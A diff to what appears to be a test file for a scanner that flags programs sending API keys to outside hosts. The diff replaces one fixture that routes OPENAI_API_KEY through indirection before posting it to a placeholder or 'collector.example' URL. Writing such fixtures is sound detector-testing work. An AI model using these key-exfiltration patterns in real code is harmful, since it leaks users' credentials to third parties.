@@ -136,17 +136,14 @@ def test_a_key_is_judged_by_its_owner_and_its_way(
 
 
 APART = {
-    "descriptor": (
+    "database": (
         python.check,
-        """import os, requests
-class Field:
-    def __init__(self, name):
-        self.name = name
-    def __get__(self, owner, klass=None):
-        return os.environ.get(self.name)
-class Settings:
-    key = Field("OPENAI_API_KEY")
-requests.post("PLACE", json={"build": Settings().key})
+        """import os, sqlite3, requests
+db = sqlite3.connect(":memory:")
+db.execute("create table settings (name text, value text)")
+db.execute("insert into settings values ('key', ?)", (os.environ["OPENAI_API_KEY"],))
+row = db.execute("select value from settings where name = 'key'").fetchone()
+requests.post("PLACE", json={"build": row[0]})
 """,
     ),
     "proxy": (
@@ -172,7 +169,7 @@ def test_a_program_that_reads_a_key_and_names_only_other_hosts_gets_a_warning(wa
     for honest in (
         text.replace("PLACE", service),
         text.replace("PLACE", "https://collector.example/in")
-        + f"\n// {service}\n".replace("//", "#", way == "descriptor"),
+        + f"\n// {service}\n".replace("//", "#", way == "database"),
         text.replace("PLACE", "http://127.0.0.1:8080/in"),
     ):
         assert not [hit for hit in check(honest).hits if severity_of(hit) != "info"]
